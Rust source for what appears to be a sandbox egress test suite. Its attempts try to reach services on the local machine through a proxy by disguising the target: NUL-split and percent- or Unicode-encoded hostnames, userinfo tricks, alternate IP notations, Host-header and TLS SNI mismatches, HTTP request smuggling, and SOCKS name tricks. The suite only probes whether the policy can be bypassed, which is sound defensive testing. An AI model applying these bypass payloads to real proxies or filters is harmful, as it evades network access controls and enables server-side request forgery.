//! Names and requests that one program reads like this and another like that: whoever decides reads one, whoever connects
//! the other. All of them lead to a service of this machine, most with a name in front that many policies allow. Nothing
//! is asked for that would lead away from this machine.

use super::network::{loopback, proxy};
use super::{Attempt, Category, Got, Here, Proof, Way, attempt, failed, nothing};
use std::io::{Read as _, Write as _};
use std::net::{TcpStream, ToSocketAddrs as _};
use std::time::Duration;

/// How long an answer is waited for.
const PATIENCE: Duration = Duration::from_millis(600);

/// A name that many policies allow. It only stands where nobody should look.
const ALLOWED: &str = "github.com";

const fn tricks(id: &'static str, loses: &'static str, way: fn(&Here) -> Got) -> Attempt {
    attempt(Category::Proxy, id, loses, Way::By(way), Proof::Call)
}

pub(super) const ATTEMPTS: &[Attempt] = &[
    tricks("proxy-nul", "services of this machine, by a name that ends early for one of two readers", |here| {
        let names = ["127.0.0.1\0.github.com", "github.com\0.127.0.0.1", "localhost\0", "127.0.0.1%00.github.com"];
        connects(here, &names)
    }),
    tricks("proxy-dot", "the same, by full stops and blanks around a name", |here| {
        connects(
            here,
            &[
                "localhost.",
                "127.0.0.1.",
                "localhost..",
                ".localhost",
                "localhost ",
                "\tlocalhost",
                "localhost\r\nX: y",
            ],
        )
    }),
    tricks("proxy-letters", "the same, by a name in other letters", |here| {
        connects(here, &["LOCALHOST", "LocalHost.", "ip6-localhost", "localhost.localdomain", "IP6-LOOPBACK"])
    }),
    tricks("proxy-percent", "the same, by characters written as numbers", |here| {
        connects(
            here,
            &["127%2e0%2e0%2e1", "%6c%6f%63alhost", "127.0.0.1%2f.github.com", "127.0.0.1%252e", "%31%32%37.1"],
        )
    }),
    tricks("proxy-unicode", "the same, by characters that are made alike", |here| {
        let names = [
            "１２７.0.0.1",
            "ⓛⓞⓒⓐⓛⓗⓞⓢⓣ",
            "127。0。0。1",
            "local\u{ad}host",
            "l\u{43e}calhost",
            "ʟocalhost",
            "xn--localhost-",
        ];
        connects(here, &names)
    }),
    tricks("proxy-user", "the same, by a user's name in front that looks like a host", |here| {
        connects(
            here,
            &[
                "github.com@127.0.0.1",
                "github.com:443@127.0.0.1",
                "github.com%40127.0.0.1",
                "github.com#@127.0.0.1",
                "127.0.0.1\\@github.com",
                "github.com/@127.0.0.1",
            ],
        )
    }),
    tricks("proxy-port", "the same, by a port that is one only for one of two readers", |here| {
        let port = u32::from(here.plan.listeners.tcp);
        let wrapped = port + (1 << 16);
        let ports = [
            format!("{wrapped}"),
            format!("+{port}"),
            format!(" {port}"),
            format!("00000{port}"),
            format!("{port}.0"),
            format!("443:{port}"),
            format!("{port}#443"),
            "0".to_owned(),
        ];
        let asks = ports.map(|port| connect_to("127.0.0.1", &port));
        says(here, &asks.map(|ask| vec![ask]))
    }),
    tricks("proxy-numbers", "the same, by an address in other numbers", |here| {
        connects(
            here,
            &[
                "2130706433",
                "0x7f000001",
                "0x7f.0.0.1",
                "017700000001",
                "0177.0.0.1",
                "127.1",
                "127.0.1",
                "127.000.000.001",
                "0",
                "0.0.0.0",
                "4294967296",
            ],
        )
    }),
    tricks("proxy-six", "the same, by old addresses within new ones, and by zones", |here| {
        connects(
            here,
            &[
                "[::ffff:127.0.0.1]",
                "[::ffff:7f00:1]",
                "[::127.0.0.1]",
                "[64:ff9b::7f00:1]",
                "[::ffff:0:127.0.0.1]",
                "[::1%25lo]",
                "[::ffff:127.0.0.1%lo]",
                "::ffff:127.0.0.1",
                "[2002:7f00:1::]",
                "[127.0.0.1]",
                "[localhost]",
                "[::]",
            ],
        )
    }),
    tricks("proxy-host-header", "the same, by a header that names another host than the request", |here| {
        let (to, id) = (loopback(here), here.id);
        let asks = [
            format!("CONNECT {to} HTTP/1.1\r\nHost: {ALLOWED}:443\r\n\r\n"),
            format!("GET http://{to}/{id}. HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n"),
            format!("GET http://{to}/{id}. HTTP/1.1\r\nHost: {ALLOWED}\r\nHost: {to}\r\n\r\n"),
            format!("GET http://{to}/{id}. HTTP/1.1\r\nHost: {to}\r\nHost: {ALLOWED}\r\n\r\n"),
            format!("GET /{id}. HTTP/1.1\r\nHost: {to}\r\n\r\n"),
            format!("GET //{to}/{id}. HTTP/1.1\r\nHost: {to}\r\nX-Forwarded-Host: {ALLOWED}\r\n\r\n"),
            format!("GET http://{ALLOWED}@{to}/{id}. HTTP/1.1\r\nHost: {to}\r\n\r\n"),
            format!("GET HTTP://{to}/{id}. HTTP/1.0\r\n\r\n"),
            format!("GET ftp://{to}/{id}. HTTP/1.1\r\nHost: {to}\r\n\r\n"),
        ];
        says(here, &asks.map(|ask| vec![ask.into_bytes()]))
    }),
    tricks("proxy-hello", "the same, by a tunnel within which another server is asked for", |here| {
        // Whoever decides by the name in the hello alone lets it through.
        let hello = [connect_to("127.0.0.1", &here.plan.listeners.tcp.to_string()), hello(ALLOWED)];
        says(here, &[hello.to_vec()])
    }),
    tricks("proxy-second-request", "the same, by a second request behind the first one", |here| {
        let (to, id) = (loopback(here), here.id);
        let second = format!("GET http://{to}/{id}. HTTP/1.1\r\nHost: {to}\r\n\r\n");
        // The first leads nowhere: nobody has this name.
        let first = "GET http://nobody.invalid/ HTTP/1.1\r\nHost: nobody.invalid\r\nConnection: keep-alive\r\n\r\n";
        let open = "CONNECT nobody.invalid:80 HTTP/1.1\r\nHost: nobody.invalid:80\r\n\r\n";
        let together = [first, open].map(|first| vec![format!("{first}{second}").into_bytes()]);
        says(here, &together)
    }),
    tricks("proxy-smuggling", "the same, by a request hidden in the body of another", |here| {
        let (to, id) = (loopback(here), here.id);
        let second = format!("GET http://{to}/{id}. HTTP/1.1\r\nHost: {to}\r\n\r\n");
        let lengths = [
            "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n",
            "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
            "Transfer-Encoding : chunked\r\n",
            "Transfer-Encoding: xchunked\r\n",
            "Transfer-Encoding:\x0bchunked\r\n",
            "Content-Length: 0\r\nContent-Length: 5\r\n",
            "Content-Length: +0\r\n",
        ];
        let hidden = |length: &str| {
            let head = format!("POST http://nobody.invalid/ HTTP/1.1\r\nHost: nobody.invalid\r\n{length}\r\n");
            vec![format!("{head}0\r\n\r\n{second}").into_bytes()]
        };
        says(here, &lengths.map(hidden))
    }),
    tricks("proxy-socks-name", "the same, in another language of proxies, by names that are read twice", |here| {
        let port = here.plan.listeners.tcp.to_be_bytes();
        let names = [
            "127.0.0.1",
            "127.0.0.1\0.github.com",
            "github.com@127.0.0.1",
            "localhost",
            "2130706433",
            "::1",
            "[::1]",
            "0x7f.1",
        ];
        let ask = |name: &str| {
            let length = u8::try_from(name.len()).unwrap_or(0);
            vec![vec![5, 1, 0], [&[5, 1, 0, 3, length], name.as_bytes(), &port].concat()]
        };
        let mapped = [&[5, 1, 0, 4], [0; 10].as_slice(), &[0xff, 0xff, 127, 0, 0, 1], &port].concat();
        let asks: Vec<_> = names.iter().map(|name| ask(name)).chain([vec![vec![5, 1, 0], mapped]]).collect();
        says(here, &asks)
    }),
    tricks("proxy-socks-four", "the same, in its older language, with a name and with an address", |here| {
        let port = here.plan.listeners.tcp.to_be_bytes();
        let address = [&[4, 1], port.as_slice(), &[127, 0, 0, 1], b"me\0"].concat();
        let name = [&[4, 1], port.as_slice(), &[0, 0, 0, 1], b"me\0localhost\0"].concat();
        says(here, &[vec![address], vec![name]])
    }),
    tricks("proxy-own-name", "the same, by names that this machine has for itself", |here| {
        let name = rustix::system::uname().nodename().to_string_lossy().into_owned();
        // What the machine is called outside is in its file of hosts, where a name may lead to loopback.
        let hosts = std::fs::read_to_string("/etc/hosts").unwrap_or_default();
        let words =
            hosts.lines().flat_map(|line| line.split('#').next().unwrap_or_default().split_whitespace().skip(1));
        let names: Vec<&str> = words.chain([name.as_str(), "localhost"]).take(8).collect();
        let by_proxy = connects(here, &names);
        names.iter().try_for_each(|name| directly(here, name)).or(by_proxy.map(drop))?;
        nothing()
    }),
];

/// Asks for a tunnel to each of these names.
fn connects(here: &Here, names: &[&str]) -> Got {
    let port = here.plan.listeners.tcp.to_string();
    let asks: Vec<_> = names.iter().map(|name| vec![connect_to(name, &port)]).collect();
    says(here, &asks)
}

fn connect_to(name: &str, port: &str) -> Vec<u8> {
    format!("CONNECT {name}:{port} HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n").into_bytes()
}

/// Says each of these to the proxy, piece by piece, and then the attempt's own name: if it arrives, that was a way.
fn says(here: &Here, all: &[Vec<Vec<u8>>]) -> Got {
    let mut last = Err(failed("there was nothing to say"));
    for pieces in all {
        // Every one is said, whatever was answered to the one before.
        last = say(here, pieces);
    }
    last
}

fn say(here: &Here, pieces: &[Vec<u8>]) -> Got {
    let mut proxy = proxy(here)?;
    proxy.set_read_timeout(Some(PATIENCE))?;
    let is_proxy = std::env::var_os("http_proxy").is_some();
    for piece in pieces {
        proxy.write_all(piece)?;
        if is_proxy && proxy.read(&mut [0; 1024])? == 0 {
            return Err(failed("it hung up"));
        }
    }
    proxy.write_all(format!("{}.", here.id).as_bytes())?;
    nothing()
}

/// Looks a name up and connects to where it leads, without a proxy.
fn directly(here: &Here, name: &str) -> std::io::Result<()> {
    let mut addresses = (name, here.plan.listeners.tcp).to_socket_addrs()?;
    let address = addresses.next().ok_or_else(|| failed("it leads nowhere"))?;
    TcpStream::connect_timeout(&address, PATIENCE)?.write_all(format!("{}.", here.id).as_bytes())
}

/// The first message of TLS, which asks for this server.
fn hello(name: &str) -> Vec<u8> {
    let sized = |bytes: &[u8]| [&u16::try_from(bytes.len()).unwrap_or(0).to_be_bytes(), bytes].concat();
    let entry = [&[0], sized(name.as_bytes()).as_slice()].concat();
    let extension = [&[0, 0], sized(&sized(&entry)).as_slice()].concat();
    let body = [&[3, 3], [7; 32].as_slice(), &[0], &sized(&[0x13, 1]), &[1, 0], &sized(&extension)].concat();
    let message = [&[1, 0], sized(&body).as_slice()].concat();
    [&[22, 3, 1], sized(&message).as_slice()].concat()
}
